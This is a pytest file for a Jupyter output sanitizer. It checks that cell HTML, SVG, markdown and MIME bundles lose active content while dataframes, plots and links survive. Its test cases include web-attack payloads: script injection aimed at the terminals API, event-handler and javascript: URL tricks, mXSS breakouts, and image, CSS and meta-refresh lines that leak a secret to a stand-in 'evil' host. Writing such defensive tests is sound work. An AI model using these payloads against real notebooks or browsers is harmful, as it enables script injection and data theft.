"""What a cell displays is neutralised: nothing active reaches the browser, ordinary content survives."""

from __future__ import annotations

import pytest

from sandbox_kernel.jupyter.sanitize import OutputSanitizer

S = OutputSanitizer(image_hosts=["images.example.org"])

# (name, html, what must not survive)
ACTIVE_HTML = [
    ("script tag", "<script>fetch('/api/terminals',{method:'POST'})</script>ok", "script"),
    ("event handler", "<img src=x onerror=alert(1)>", "onerror"),
    ("svg onload", "<svg onload=alert(1)><circle/></svg>", "onload"),
    ("javascript url", '<a href="javascript:alert(1)">x</a>', "javascript"),
    ("javascript url, spaced and cased", '<a href=" JaVa\tScRiPt:alert(1)">x</a>', "alert"),
    ("data url link", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "data:"),
    ("iframe", '<iframe src="/lab"></iframe>', "iframe"),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "srcdoc"),
    ("form", '<form action="/api/contents" method=post><input name=x><button>go</button></form>', "form"),
    ("object and embed", '<object data="x.swf"></object><embed src="x.swf">', "object"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "refresh"),
    ("meta refresh to another host", '<meta http-equiv="refresh" content="1;url=http://evil/?d=secret">', "evil"),
    ("link preconnect", '<link rel="preconnect" href="http://evil:47123">', "evil"),
    ("base href", '<base href="http://evil/">', "base"),
    ("link stylesheet", '<link rel=stylesheet href="http://evil/x.css">', "evil"),
    ("style tag", "<style>body{display:none}</style>text", "display:none"),
    ("fixed overlay", '<div style="position:fixed;top:0;left:0;width:100%;z-index:9999">fake dialog</div>', "fixed"),
    ("css url", '<div style="background:url(http://evil/leak?d=secret)">x</div>', "evil"),
    ("css url, escaped", '<div style="background-image:u\\72l(http://evil/)">x</div>', "evil"),
    ("remote image", '<img src="http://127.0.0.1:9/leak?d=secret">', "127.0.0.1"),
    ("srcset", '<img srcset="http://evil/a.png 2x">', "evil"),
    ("svg image data url", '<img src="data:image/svg+xml,<svg onload=alert(1)>">', "svg+xml"),
    ("id clobbering", '<img id="jupyter-config-data" name="x">', "jupyter-config-data"),
    ("mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "onerror"),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "onerror"),
    ("template", "<template><script>alert(1)</script></template>", "script"),
]


@pytest.mark.parametrize(("name", "html", "gone"), ACTIVE_HTML, ids=[c[0] for c in ACTIVE_HTML])
def test_active_html_is_removed(name, html, gone):
    assert gone.lower() not in S.html(html).lower()


ORDINARY_HTML = [
    (
        "dataframe",
        '<div><table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr>'
        "</thead><tbody><tr><th>0</th><td>1</td></tr></tbody></table></div>",
        ['<table border="1" class="dataframe">', "<th>a</th>", "<td>1</td>", 'style="text-align:right"'],
    ),
    ("styling", '<span style="color: red; font-weight: bold">hot</span>', ['style="color:red;font-weight:bold"']),
    ("link to allow_net", '<a href="https://images.example.org/3/">docs</a>', ['href="https://images.example.org/3/"']),
    ("link elsewhere keeps its text", '<a href="https://docs.python.org/3/">docs</a>', [">docs</a>"]),
    ("anchor", '<a href="#section">here</a>', ['href="#section"']),
    (
        "data image",
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="plot">',
        ['src="data:image/png;base64,iVBORw0KGgo="'],
    ),
    ("relative image", '<img src="figures/plot.png">', ['src="figures/plot.png"']),
    ("allowed host image", '<img src="https://images.example.org/a.png">', ['src="https://images.example.org/a.png"']),
    (
        "details",
        "<details open><summary>more</summary><pre>x</pre></details>",
        ["<details open", "<summary>more</summary>"],
    ),
    ("math text", r"$\alpha^2$ and <b>bold</b>", [r"$\alpha^2$", "<b>bold</b>"]),
]


@pytest.mark.parametrize(("name", "html", "kept"), ORDINARY_HTML, ids=[c[0] for c in ORDINARY_HTML])
def test_ordinary_html_survives(name, html, kept):
    clean = S.html(html)
    for fragment in kept:
        assert fragment in clean, clean


MATPLOTLIB_LIKE_SVG = """<?xml version="1.0" encoding="utf-8" standalone="no"?>
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="460pt" height="345pt" viewBox="0 0 460 345"
 xmlns="http://www.w3.org/2000/svg" version="1.1">
 <defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style>
  <clipPath id="p1"><rect x="57" y="41" width="357" height="266"/></clipPath>
  <path id="m1" d="M 0 0 L 0 3.5" style="stroke: #000000; stroke-width: 0.8"/></defs>
 <g id="figure_1"><g id="patch_1"><path d="M 0 345 L 460 345 L 460 0 L 0 0 z" style="fill: #ffffff"/></g>
  <use xlink:href="#m1" x="73" y="307" style="stroke: #000000"/>
  <path d="M 73 294 L 235 174" clip-path="url(#p1)" style="fill: none; stroke: #1f77b4; stroke-width: 1.5"/>
  <text x="10" y="20" style="font-size: 10px">title</text></g>
 <script>alert(1)</script><g onmouseover="alert(1)"/><use href="http://evil/x.svg#a"/>
 <foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)/></div></foreignObject>
 <a xlink:href="javascript:alert(1)"><text>click</text></a>
 <image href="http://evil/leak.png"/><g fill="url(http://evil/x)"/>
</svg>"""


def test_svg_keeps_drawing_and_loses_everything_active():
    clean = S.svg(MATPLOTLIB_LIKE_SVG)
    for kept in (
        'xmlns="http://www.w3.org/2000/svg"',
        '<clipPath id="p1">',
        'href="#m1"',
        'clip-path="url(#p1)"',
        "stroke:#1f77b4",
        "title</text>",
    ):
        assert kept in clean, (kept, clean)
    for gone in ("script", "alert", "evil", "onmouseover", "foreignObject", "javascript", "xlink:href"):
        assert gone not in clean, (gone, clean)


@pytest.mark.parametrize(
    ("markdown", "kind", "must", "must_not"),
    [
        ("# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n*it*", "text/markdown", "# Title", ""),
        ("*it* [docs](https://x.org)", "text/html", ">docs</a>", "x.org"),
        ("$x^2$ and R&D", "text/markdown", "$x^2$ and R&D", ""),
        ("hi <script>alert(1)</script>", "text/html", "hi", "script"),
        ("[x](javascript:alert(1))", "text/html", "[x]", "href"),
        ("[x](JaVa\tScript:alert(1))", "text/html", "", 'alert(1)"'),
        ("[x](java\\script:alert(1))", "text/html", "", 'href="java\\script'),
        ("![i](http://evil/?secret)", "text/html", "<img", "evil"),
        ("<img src=x onerror=alert(1)>", "text/html", "", "onerror"),
        ("[x](&#106;avascript:alert(1))", "text/html", "[x]", "href"),
    ],
)
def test_markdown_passes_only_when_plain(markdown, kind, must, must_not):
    got_kind, text = S.markdown(markdown)
    assert got_kind == kind
    assert must in text
    if must_not:
        assert must_not not in text, text


def test_bundles_drop_executable_types_and_keep_safe_renderers():
    bundle = {
        "text/plain": "<IPython.core.display.Javascript object>",
        "application/javascript": "alert(1)",
        "text/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "text/html": "<b>ok</b><script>alert(1)</script>",
        "image/png": "iVBORw0KGgo=",
        "application/json": {"a": 1},
        "application/vnd.vegalite.v5+json": {"mark": "bar"},
        "text/latex": "$x$",
    }
    clean = S.bundle(bundle, {"application/javascript": {"x": 1}, "image/png": {"width": 10}})
    assert set(clean.data) == {
        "text/plain",
        "text/html",
        "image/png",
        "application/json",
        "application/vnd.vegalite.v5+json",
        "text/latex",
        "application/vnd.jupyter.widget-view+json",  # names a model; the model's state is checked (widget_guard)
    }
    assert clean.data["text/html"] == "<b>ok</b>"
    assert sorted(clean.dropped) == ["application/javascript", "text/javascript"]
    assert clean.metadata == {"image/png": {"width": 10}}


def test_text_types_must_be_text():
    clean = S.bundle({"text/html": {"not": "text"}, "image/png": 5, "text/plain": ["a", "b"]})
    assert clean.data == {"text/plain": "ab"}
    assert sorted(clean.dropped) == ["image/png", "text/html"]


def test_markdown_beside_html_does_not_replace_it():
    clean = S.bundle({"text/markdown": "<b>x</b>", "text/html": "<i>y</i>"})
    assert clean.data == {"text/html": "<i>y</i>"}


def test_trusted_output_passes_unchanged():
    bundle = {"application/javascript": "alert(1)", "text/html": "<script>1</script>"}
    assert OutputSanitizer(trusted=True).bundle(bundle).data == bundle
